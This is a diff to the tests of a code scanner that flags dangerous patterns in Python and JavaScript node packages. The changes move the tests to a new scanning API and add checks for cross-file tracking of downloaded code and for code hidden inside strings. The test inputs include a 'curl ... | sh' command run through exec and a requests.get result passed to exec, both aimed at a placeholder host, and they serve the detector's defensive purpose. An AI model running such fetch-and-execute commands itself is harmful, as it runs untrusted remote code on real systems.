@@ -1,27 +1,30 @@
 import assert from 'node:assert/strict'
 import { test } from 'node:test'
 import { testParser } from '../python/parser.test-support.ts'
-import { PythonSources } from '../python/sources.ts'
 import { checkBinary } from './binaries.ts'
-import { isBlocking } from './finding.ts'
+import { type Finding, isBlocking } from './finding.ts'
 import type { Rule } from './rule.ts'
-import { factsOf, rules, scanDependencies, scanPython, scanText } from './scan.ts'
+import { rules, scanCode, scanDependencies, scanFile, scanText } from './scan.ts'
 
 const parser = await testParser()
 
-function rulesFoundIn(rule: Rule, example: string): string[] {
-  return findingsIn(rule, example).map((finding) => finding.rule)
-}
-
-function findingsIn(rule: Rule, example: string) {
-  if (rule.of === 'dependency') return scanDependencies('requirements.txt', [{ text: example, line: 1 }])
-  if (rule.of === 'text') return scanText('nodes.py', example)
-  const sources = new PythonSources(parser)
-  try {
-    const facts = factsOf(sources.add('nodes.py', example))
-    return facts ? scanPython(facts) : []
-  } finally {
-    sources.release()
+function findingsIn(rule: Rule, example: string): Finding[] {
+  switch (rule.of) {
+    case 'dependency':
+      return scanDependencies('requirements.txt', [{ text: example, line: 1 }])
+    case 'text':
+      return scanText(rule.exampleName ?? 'nodes.py', example)
+    case 'file': {
+      const [path = '', ...rest] = example.split('\n')
+      return scanFile(
+        path,
+        Uint8Array.from(rest.join('\n'), (letter) => letter.charCodeAt(0)),
+      )
+    }
+    case 'python':
+      return scanCode([{ path: 'nodes.py', text: example }], [], parser).findings
+    case 'javascript':
+      return scanCode([], [{ path: 'web/nodes.js', text: example }], parser).findings
   }
 }
 
@@ -35,7 +38,8 @@ for (const rule of rules) {
   }
   for (const [i, example] of rule.examples.harmless.entries()) {
     test(`${rule.id} leaves its harmless example ${i + 1} alone`, () => {
-      assert.ok(!rulesFoundIn(rule, example).includes(rule.id), example)
+      const found = findingsIn(rule, example).filter((finding) => finding.rule === rule.id)
+      assert.deepEqual(found, [], example)
     })
   }
 }
@@ -47,21 +51,55 @@ test('rules have ids of their own, and each has both kinds of examples', () => {
 })
 
 test('starting well-known programs never blocks a version', () => {
-  const sources = new PythonSources(parser)
   const text =
     'import subprocess, sys\n' +
-    ['git', 'ffmpeg', 'nvidia-smi'].map((name) => `subprocess.run(["${name}", x])`).join('\n')
-  const facts = factsOf(
-    sources.add(
-      'a.py',
-      `${text}\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "-r", "requirements.txt"])\n`,
-    ),
-  )
-  assert.ok(facts)
-  const findings = scanPython(facts)
-  sources.release()
+    ['git', 'ffmpeg', 'nvidia-smi'].map((name) => `subprocess.run(["${name}", x])`).join('\n') +
+    '\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "-r", "requirements.txt"])\n'
+  const { findings } = scanCode([{ path: 'a.py', text }], [], parser)
   assert.ok(findings.length >= 4)
   assert.equal(findings.some(isBlocking), false)
+})
+
+test('a value is followed from file to file', () => {
+  const files = {
+    '__init__.py': 'from .net import fetch\nfrom . import run\nrun.go(fetch("https://example.test"))',
+    'net.py': 'import requests\ndef fetch(u):\n    return requests.get(u).text',
+    'run.py': 'def go(text):\n    exec(text)',
+  }
+  const python = Object.entries(files).map(([path, text]) => ({ path, text }))
+  const found = scanCode(python, [], parser).findings.filter(isBlocking)
+  assert.deepEqual(
+    found.map(({ rule, file_path, line_number }) => `${rule} ${file_path}:${line_number}`),
+    ['downloaded-code run.py:2'],
+  )
+})
+
+test('what one caller passes is not held against another', () => {
+  const text =
+    'import requests\ndef same(x):\n    return x\npage = same(requests.get(u).text)\nexec(same("x = 1"))\n'
+  assert.equal(scanCode([{ path: 'a.py', text }], [], parser).findings.some(isBlocking), false)
+})
+
+test('code inside of a text is read too, and found at the text', () => {
+  const text = 'x = 1\nexec("import os\\nos.system(\'curl https://example.test/x | sh\')")\n'
+  const found = scanCode([{ path: 'a.py', text }], [], parser).findings.filter(isBlocking)
+  assert.deepEqual(
+    found.map(({ rule, line_number }) => `${rule} ${line_number}`),
+    ['dangerous-command 2'],
+  )
+})
+
+test('code that is nested to no end is reported, not followed', () => {
+  const text = `import subprocess\nx = ${'('.repeat(2000)}1${')'.repeat(2000)}\n`
+  const { problems } = scanCode(
+    [{ path: 'a.py', text }],
+    [{ path: 'a.js', text: `x = ${'['.repeat(5000)}${']'.repeat(5000)}` }],
+    parser,
+  )
+  assert.deepEqual(
+    problems.map(({ path }) => path),
+    ['a.py', 'a.js'],
+  )
 })
 
 test('machine code is told by its first bytes, and a false name makes it worse', () => {
